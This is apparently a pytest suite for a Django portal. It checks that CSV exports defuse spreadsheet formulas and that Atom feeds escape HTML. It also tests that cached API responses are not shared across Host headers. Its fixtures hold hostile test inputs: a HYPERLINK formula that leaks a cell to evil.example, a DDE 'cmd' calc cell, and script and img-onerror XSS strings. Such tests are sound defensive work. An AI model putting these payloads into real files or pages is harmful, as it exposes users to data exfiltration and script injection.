"""What the portal writes for other programs: CSV for spreadsheets, Atom for
feed readers, and the public API's cached answers."""

import csv
import io
import xml.etree.ElementTree as ET

import pytest
from rest_framework.test import APIClient

from portal.spreadsheet import neutralise

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'


@pytest.fixture
def hostile(lifecycle, only_search_hooks):
    return lifecycle.published(title=FORMULA, scope=f"Scope {SCRIPT} {IMG}")


# --- CSV -----------------------------------------------------------------------


def rows_of(response) -> list[list[str]]:
    text = b"".join(
        response.streaming_content if response.streaming else [response.content]
    )
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))


def test_the_csv_export_writes_a_formula_as_text(client, hostile):
    rows = rows_of(client.get("/standards/export.csv"))
    titles = [row[1] for row in rows[1:]]
    assert titles == ["'" + FORMULA]


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "=cmd|' /C calc'!A0"],
)
def test_every_formula_start_is_neutralised(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["LLMSWG 0001:2026", "a=b", "", None, 3, "http://x/"])
def test_other_cells_are_written_as_they_are(cell):
    assert neutralise(cell) == ("" if cell is None else str(cell))


# --- Atom feeds ------------------------------------------------------------------


def summaries(response) -> list[ET.Element]:
    assert response.status_code == 200
    root = ET.fromstring(response.content)
    return root.findall(f"{ATOM}entry/{ATOM}summary")


def test_a_scope_in_the_publications_feed_is_html_escaped_once_more(client, hostile):
    [summary] = summaries(client.get("/feeds/standards.atom"))
    assert summary.get("type") == "html"
    # The XML parser has undone the XML escaping: what is left is the HTML a
    # reader renders, in which the script is text.
    assert "&lt;script&gt;" in summary.text
    assert "<script>" not in summary.text
    assert "<img" not in summary.text


def test_a_field_feed_escapes_the_scope_too(client, hostile, world):
    [summary] = summaries(client.get(f"/feeds/fields/{world.subfield.slug}.atom"))
    assert "<script>" not in summary.text and "&lt;script&gt;" in summary.text


def test_a_history_comment_in_the_changes_feed_is_html_escaped(
    client, lifecycle, world, hostile
):
    lifecycle.go(hostile, "reaffirm", world.leader, comment=f"Still good {SCRIPT}")
    entries = summaries(client.get(f"/feeds/standards/{hostile.pk}.atom"))
    texts = [s.text or "" for s in entries]
    assert any("&lt;script&gt;" in text for text in texts), texts
    assert not any("<script>" in text for text in texts), texts


# --- the public API cache and the Host header --------------------------------------


def test_a_cached_answer_is_never_given_to_another_host(hostile, lifecycle):
    lifecycle.published(title="A second standard, so that there is a next page")
    client = APIClient()
    first = client.get("/api/v1/standards/?page_size=1", HTTP_HOST="localhost:8000")
    assert first.status_code == 200
    assert "http://localhost:8000/" in first.content.decode()
    second = client.get("/api/v1/standards/?page_size=1", HTTP_HOST="127.0.0.1")
    assert second.status_code == 200
    body = second.content.decode()
    assert "localhost:8000" not in body
    assert "http://127.0.0.1/" in body


def test_the_same_host_is_still_served_from_the_cache(
    hostile, django_assert_num_queries
):
    client = APIClient()
    first = client.get("/api/v1/standards/", HTTP_HOST="localhost:8000")
    with django_assert_num_queries(0):
        again = client.get("/api/v1/standards/", HTTP_HOST="localhost:8000")
    assert again.content == first.content
